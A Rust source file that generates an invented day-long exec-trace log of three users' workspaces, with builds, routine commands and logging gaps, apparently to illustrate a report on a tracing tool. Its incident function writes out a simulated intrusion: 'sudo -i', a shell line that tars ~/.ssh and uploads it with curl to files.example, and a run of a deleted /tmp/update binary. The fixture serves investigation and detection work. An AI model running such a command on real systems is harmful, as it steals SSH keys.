//! The invented log of a working day: three users build, and the log has gaps of several kinds. The
//! pictures of the report show this log.

use std::fmt::Write as _;

use serde_json::{Value, json};

/// Beginning of the day, in seconds after midnight.
const MORNING: u64 = 8 * 3600;
const MINUTE: u64 = 60_000;

/// Random numbers: splitmix64 (Steele, Lea and Flood, 2014).
struct Random(u64);

impl Random {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ (z >> 31)) % limit
    }
}

/// A workspace, and the run that records it.
struct Workspace {
    user: &'static str,
    name: &'static str,
    run: String,
    line: u64,
    seq: u64,
    pid: u64,
    /// Milliseconds since the morning.
    now: u64,
    /// Lines with their times.
    lines: Vec<(u64, String)>,
    random: Random,
}

fn time(milliseconds: u64) -> String {
    let (seconds, rest) = (MORNING + milliseconds / 1_000, milliseconds % 1_000);
    let (hour, minute, second) = (seconds / 3_600, seconds / 60 % 60, seconds % 60);
    format!("2026-11-24T{hour:02}:{minute:02}:{second:02}.{rest:03}250408Z")
}

impl Workspace {
    fn line(&mut self, level: &str, msg: &str, mut fields: Value) {
        fields["labels"] = json!({"username": self.user, "workspace_name": self.name});
        fields["run"] = json!(self.run);
        fields["line"] = json!(self.line);
        self.line += 1;
        let (ts, level, msg, fields) = (json!(time(self.now)), json!(level), json!(msg), fields);
        let line = format!(r#"{{"ts":{ts},"level":{level},"msg":{msg},"fields":{fields}}}"#);
        self.lines.push((self.now, line));
    }

    /// An exec of a new process. Returns its process id.
    fn exec(&mut self, parent: u64, exe: &str, argv: &[&str], more: Value) -> u64 {
        self.pid += 1 + self.random.below(3);
        let cmdline = argv.iter().fold(String::new(), |mut line, word| {
            let blank = if line.is_empty() { "" } else { " " };
            let quote = if word.contains(' ') { "'" } else { "" };
            let _ = write!(line, "{blank}{quote}{word}{quote}");
            line
        });
        let mut event = json!({
            "filename": exe, "argv": argv, "truncated": false, "pid": self.pid, "uid": 101_000,
            "gid": 101_000, "comm": "bash", "argc": argv.len(), "ppid": parent,
            "ns_ppid": u64::from(parent > 0), "euid": 101_000, "start": self.pid * 1_000,
            "ppid_start": parent * 1_000, "cpu": 0, "seq": self.seq, "exe": exe,
            "cwd": format!("/home/{}/{}", self.user, self.name), "tty": "pts/0",
        });
        if let (Some(event), Some(more)) = (event.as_object_mut(), more.as_object()) {
            event.extend(more.clone());
        }
        self.seq += 1;
        self.line("INFO", "exec", json!({"cmdline": cmdline, "event": event}));
        self.pid
    }

    fn exit(&mut self, pid: u64, status: u64) {
        let lasted = 1_000_000 * (20 + self.random.below(4_000));
        let event = json!({
            "pid": pid, "start": pid * 1_000, "status": status, "duration_ns": lasted,
        });
        self.line("INFO", "exit", json!({"event": event}));
    }

    fn begin(&mut self, run: &str, previous: Value, untraced: u64) -> u64 {
        self.run = run.to_owned();
        (self.line, self.seq) = (0, 0);
        let mut started = json!({"version": "9.9.9"});
        if !previous.is_null() {
            started["previous_run"] = previous;
        }
        self.line("INFO", "tracing_started", started);
        let found = json!({"pid_ns": 4_026_532_249_u64, "untraced_ns": untraced});
        self.line("INFO", "workspace_started", found);
        self.now += 4_000;
        self.exec(
            0,
            "/usr/bin/bash",
            &["bash", "--login"],
            json!({"entered": true}),
        )
    }

    fn build(&mut self, shell: u64) {
        let make = self.exec(shell, "/usr/bin/make", &["make", "-j8"], json!({}));
        for number in 0..6 + self.random.below(30) {
            self.now += self.random.below(1_500);
            let source = format!("src/module_{number}.c");
            let object = format!("build/module_{number}.o");
            let argv = ["gcc", "-O2", "-c", &source, "-o", &object];
            let gcc = self.exec(make, "/usr/bin/gcc", &argv, json!({}));
            self.exec(
                gcc,
                "/usr/libexec/gcc/cc1",
                &["cc1", "-quiet", &source],
                json!({}),
            );
            self.exec(
                gcc,
                "/usr/bin/as",
                &["as", "-o", &object, "/tmp/cc.s"],
                json!({}),
            );
            self.exit(gcc, u64::from(number % 13 == 12));
        }
        self.now += 300;
        self.exec(
            make,
            "/usr/bin/ld",
            &["ld", "-o", "build/program"],
            json!({}),
        );
        self.exit(make, 0);
    }

    fn small_commands(&mut self, shell: u64) {
        let all: [(&str, &[&str]); 6] = [
            ("/usr/bin/git", &["git", "status"]),
            ("/usr/bin/git", &["git", "commit", "-m", "Bound the cache"]),
            ("/usr/bin/grep", &["grep", "-rn", "TODO", "src"]),
            ("/usr/bin/node", &["node", "server.js", "--port", "8080"]),
            ("/usr/bin/python3", &["python3", "-m", "pytest", "tests"]),
            ("/usr/bin/ls", &["ls", "-la"]),
        ];
        for _ in 0..3 + self.random.below(12) {
            self.now += 2_000 + self.random.below(40_000);
            let (exe, argv) = all[self.random.below(all.len() as u64) as usize];
            let pid = self.exec(shell, exe, argv, json!({}));
            if exe.ends_with("node") {
                self.exec(pid, "/usr/bin/sh", &["sh", "-c", "uname -a"], json!({}));
            }
            self.exit(pid, 0);
        }
    }

    /// Lets `minutes` pass. Then adds a line: `count` execs of this time are lost or suppressed.
    fn gap(&mut self, msg: &str, count: u64, minutes: u64) {
        let level = if msg == "lost" { "WARN" } else { "INFO" };
        let (since, until) = (time(self.now), time(self.now + minutes * MINUTE));
        self.now += minutes * MINUTE;
        let fields = json!({"count": count, "of": "exec", "since": since, "until": until});
        self.line(level, msg, fields);
    }

    /// exectrail is restarted, and the user does something that an investigation would look for.
    fn incident(&mut self) -> u64 {
        let before = self.run.clone();
        self.now += 24 * MINUTE;
        let previous = json!({"run": before, "gap_ns": 24 * MINUTE * 1_000_000});
        let shell = self.begin("5f0c9d1e7a42", previous, 0);
        self.exec(
            shell,
            "/usr/bin/sudo",
            &["sudo", "-i"],
            json!({"euid": 100_000}),
        );
        let failed = json!({
            "filename": "/usr/local/bin/curl", "error": "ENOENT", "errno": 2, "pid": shell,
            "start": shell * 1_000, "ppid": 0, "ns_ppid": 0,
        });
        self.line("INFO", "exec_failed", json!({"event": failed}));
        let upload = ["curl", "-s", "-T", "-", "https://files.example/upload"];
        let shell_of = [
            "sh",
            "-c",
            "tar -cz ~/.ssh | curl -s -T - https://files.example/upload",
        ];
        let sh = self.exec(shell, "/usr/bin/sh", &shell_of, json!({}));
        self.exec(
            sh,
            "/usr/bin/tar",
            &["tar", "-cz", "/home/jessie/.ssh"],
            json!({}),
        );
        self.exec(sh, "/usr/bin/curl", &upload, json!({}));
        let changed = json!({"upper_layer": true, "deleted": true});
        self.exec(shell, "/tmp/update", &["/tmp/update", "--quiet"], changed);
        shell
    }
}

/// The lines of the day, in the order of time.
pub fn log() -> String {
    let users = [
        ("jessie", "apache"),
        ("robin", "website"),
        ("sam", "kernel"),
    ];
    let mut all: Vec<(u64, String)> = Vec::new();
    for (number, (user, name)) in (0..).zip(users) {
        let mut workspace = Workspace {
            user,
            name,
            run: String::new(),
            line: 0,
            seq: 0,
            pid: 1_000 + 10_000 * number,
            now: 9 * MINUTE * (number + 1),
            lines: Vec::new(),
            random: Random(number),
        };
        let untraced = if number == 1 {
            9 * MINUTE * 1_000_000
        } else {
            0
        };
        let mut shell = workspace.begin(&format!("19bf4409698{number}"), Value::Null, untraced);
        for hour in 0..9 {
            while workspace.now < (hour + 1) * 60 * MINUTE {
                workspace.small_commands(shell);
                // At lunch there is little to do.
                if workspace.random.below(3) > 0 && hour != 4 {
                    workspace.build(shell);
                }
                workspace.now += workspace.random.below(14 * MINUTE);
            }
            match (number, hour) {
                (0, 6) => shell = workspace.incident(),
                (1, 2) => workspace.gap("suppressed", 2_310, 21),
                (2, 5) => workspace.gap("lost", 412, 11),
                _ => {}
            }
        }
        workspace.line("INFO", "tracing_stopped", json!({"execs": workspace.seq}));
        all.append(&mut workspace.lines);
    }
    all.sort_by_key(|(at, _)| *at);
    all.into_iter().map(|(_, line)| line + "\n").collect()
}
